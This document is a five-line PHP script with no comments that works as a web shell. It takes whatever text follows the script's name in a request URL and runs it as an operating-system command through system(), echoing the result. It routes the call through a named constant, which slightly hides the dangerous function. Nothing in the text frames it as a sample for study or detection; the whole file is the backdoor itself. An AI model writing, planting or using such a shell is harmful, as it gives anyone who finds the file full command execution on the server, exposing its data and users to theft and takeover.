<?php
ob_implicit_flush();
$q2 = $_SERVER['PATH_INFO'];
define('RUNNER', 'system');
echo constant('RUNNER')($q2);
